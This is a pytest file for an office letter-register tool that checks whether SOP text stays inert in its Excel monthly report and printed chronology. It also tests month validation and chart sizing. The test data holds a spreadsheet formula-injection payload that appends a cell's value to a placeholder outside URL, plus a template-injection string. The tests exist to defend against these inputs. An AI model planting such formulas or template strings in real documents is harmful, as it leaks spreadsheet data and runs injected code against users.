"""Attacks through the books a head of office reads: the kronologi and the monthly report.

An office's own SOP file is text someone typed: its kegiatan reaches the
spreadsheet and the printed book. Neither may run it.
"""

from __future__ import annotations

from pathlib import Path

import openpyxl
import pytest

from surat import Register, SuratError
from surat.reports.kronologi import buku_kronologi
from surat.reports.laporan import bulan, laporan_bulanan

FORMULA = '=HYPERLINK("http://example.invalid/?"&A1,"klik")'
JINJA = "{{ kop }} {% for x in langkah %}X{% endfor %}"


def own_sop(tmp_path: Path) -> Path:
    path = tmp_path / "sop-40.toml"
    path.write_text(
        f"""
id = "kantor-40"
judul = "SOP kantor"
[pelaksana]
staf = "Staf"
[[langkah]]
no = 1
kegiatan = '{FORMULA}'
pelaksana = ["staf"]
mutu_baku = "10 menit"
[[langkah]]
no = 2
kegiatan = "{JINJA}"
pelaksana = ["staf"]
mutu_baku = "10 menit"
""",
        encoding="utf-8",
    )
    return path


@pytest.fixture
def reg(tmp_path: Path) -> Register:
    r = Register(tmp_path / "agenda.db")
    nomor = r.register_case(perihal="Penanganan kasus", tanggal="2026-11-16").nomor
    sop = own_sop(tmp_path)
    for no in (1, 2):
        r.record_step(nomor, sop=sop, langkah=no, mulai=f"2026-11-16 0{no}:00",
                      selesai=f"2026-11-16 0{no}:30", oleh="staf")  # fmt: skip
    return r


def test_a_formula_in_an_sop_stays_text_in_the_spreadsheet(reg: Register, tmp_path: Path) -> None:
    out = laporan_bulanan(reg, "2026-11").to_xlsx(tmp_path / "laporan.xlsx")
    ws = openpyxl.load_workbook(out)["Langkah SOP"]
    cells = [c for row in ws.iter_rows() for c in row if c.value == FORMULA]
    assert cells and all(c.data_type == "s" for c in cells)
    reg.close()


def test_template_syntax_in_an_sop_is_printed_not_run(reg: Register) -> None:
    nomor = reg.cases()[0].nomor
    text = buku_kronologi(reg, nomor).text()
    assert JINJA in text and FORMULA in text
    reg.close()


@pytest.mark.parametrize("bad", ["9999-01", "1900-01", "2026-00", "202611", "2026-11-01", " "])
def test_a_month_outside_the_calendar_is_refused(bad: str) -> None:
    with pytest.raises(SuratError, match="bulan"):
        bulan(bad)


def test_a_long_sop_keeps_the_chart_to_its_page(tmp_path: Path) -> None:
    from PIL import Image

    lines = ['id = "panjang"', 'judul = "SOP panjang"', "[pelaksana]", 'staf = "Staf"']
    for no in range(1, 61):
        lines += ["[[langkah]]", f"no = {no}", f'kegiatan = "Langkah {no}"',
                  'pelaksana = ["staf"]', 'mutu_baku = "10 menit"']  # fmt: skip
    sop = tmp_path / "panjang.toml"
    sop.write_text("\n".join(lines), encoding="utf-8")
    with Register(tmp_path / "agenda.db") as reg:
        nomor = reg.register_case(perihal="Penanganan kasus", tanggal="2026-11-16").nomor
        for no in range(1, 61):
            reg.record_step(nomor, sop=sop, langkah=no, mulai="2026-11-16 08:00",
                            selesai="2026-11-16 08:20", oleh="staf")  # fmt: skip
        lap = laporan_bulanan(reg, "2026-11")
    assert len(lap.langkah) == 60  # the table lists every step
    width, height = Image.open(__import__("io").BytesIO(lap.grafik(dpi=50))).size
    assert height < 1.6 * width  # 16 steps drawn at most: it fits an A4 page
